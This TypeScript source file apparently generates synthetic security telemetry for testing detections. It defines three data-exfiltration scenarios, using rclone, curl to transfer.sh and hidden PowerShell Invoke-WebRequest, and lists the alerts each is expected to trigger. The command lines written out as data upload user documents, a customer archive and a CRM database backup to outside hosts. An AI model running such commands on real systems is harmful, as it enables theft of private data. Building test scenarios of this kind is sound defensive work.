// Exfiltration with command-line upload tools: rclone, curl and PowerShell's Invoke-WebRequest, each with its traffic.
import { HOUR_MS, MINUTE_MS } from '../calendar.js';
import { processStartDoc, type ProcessSpec } from '../ecs-docs.js';
import type { Host } from '../organisation.js';
import { addExfilFlows, GB, MB, ScenarioEvents, type PlannedScenario, type ScenarioDefinition, type ScenarioPlanContext } from './scenario.js';

interface ToolUpload {
  definition: ScenarioDefinition;
  host: Host;
  startMs: number;
  tool: ProcessSpec;
  country: string;
  totalBytes: number;
  slots: number;
  description: string;
  expect: string[];
}

function planToolUpload(ctx: ScenarioPlanContext, upload: ToolUpload): PlannedScenario {
  const out = new ScenarioEvents();
  const { host, startMs, tool } = upload;
  out.add('process', startMs, processStartDoc(startMs, host, tool, 7000 + ctx.rng.int(0, 5000)));
  const ip = ctx.org.ipPool.take(upload.country);
  addExfilFlows(ctx, out, { host, ip, country: upload.country, port: 443, process: tool.name }, startMs, upload.slots, upload.totalBytes);
  const { id, kind, core } = upload.definition;
  return out.label({ id, kind, core, description: upload.description, entity: { 'host.name': host.name, 'process.name': tool.name }, expect: upload.expect });
}

export const rcloneUpload: ScenarioDefinition = {
  id: 'rclone-upload', kind: 'tool-exfiltration', core: true,
  plan(ctx, day) {
    const host = ctx.takeWorkstation();
    const args = ['rclone.exe', 'copy', `C:\\Users\\${host.user}\\Documents`, 'remote:exfil-bucket', '--transfers', '16', '--no-check-certificate'];
    return planToolUpload(ctx, {
      definition: this, host, startMs: ctx.dayStart(day) + 22 * HOUR_MS + 5 * MINUTE_MS, country: 'US', totalBytes: 3 * GB, slots: 3,
      tool: { name: 'rclone.exe', executable: `C:\\Users\\${host.user}\\AppData\\Local\\Temp\\rclone.exe`, args, parentName: 'cmd.exe' },
      description: `${host.name} runs rclone from a temp folder to copy the user's documents (about 3 GB) to cloud storage at night`,
      expect: ['rclone execution (process start)', 'PUA - Rclone Execution', 'Potential Data Exfiltration Activity to an Unusual IP Address'],
    });
  },
};

export const curlUpload: ScenarioDefinition = {
  id: 'curl-upload', kind: 'tool-exfiltration', core: true,
  plan(ctx, day) {
    const host = ctx.takeWorkstation();
    const file = `C:\\Users\\${host.user}\\Desktop\\customers.zip`;
    return planToolUpload(ctx, {
      definition: this, host, startMs: ctx.dayStart(day) + 16 * HOUR_MS + 20 * MINUTE_MS, country: 'DE', totalBytes: 800 * MB, slots: 1,
      tool: { name: 'curl.exe', executable: 'C:\\Windows\\System32\\curl.exe', args: ['curl.exe', '-T', file, 'https://transfer.sh/customers.zip'], parentName: 'cmd.exe' },
      description: `${host.name} uploads customers.zip (about 800 MB) to transfer.sh with curl -T`,
      expect: ['Curl File Upload To File Sharing Websites', 'curl upload (process start)'],
    });
  },
};

export const powershellUpload: ScenarioDefinition = {
  id: 'powershell-upload', kind: 'tool-exfiltration', core: false,
  plan(ctx, day) {
    const host = ctx.takeWorkstation();
    const script = `Invoke-WebRequest -Uri https://files.cdn-share.net/u/db.bak -Method Put -InFile C:\\Users\\${host.user}\\Downloads\\crm_db.bak`;
    return planToolUpload(ctx, {
      definition: this, host, startMs: ctx.dayStart(day) + 19 * HOUR_MS + 40 * MINUTE_MS, country: 'FR', totalBytes: 1.2 * GB, slots: 2,
      tool: { name: 'powershell.exe', executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: ['powershell.exe', '-NoP', '-W', 'Hidden', '-Command', script], parentName: 'explorer.exe' },
      description: `${host.name} uploads a 1.2 GB database backup with PowerShell Invoke-WebRequest -Method Put -InFile`,
      expect: ['PowerShell upload (process start)'],
    });
  },
};
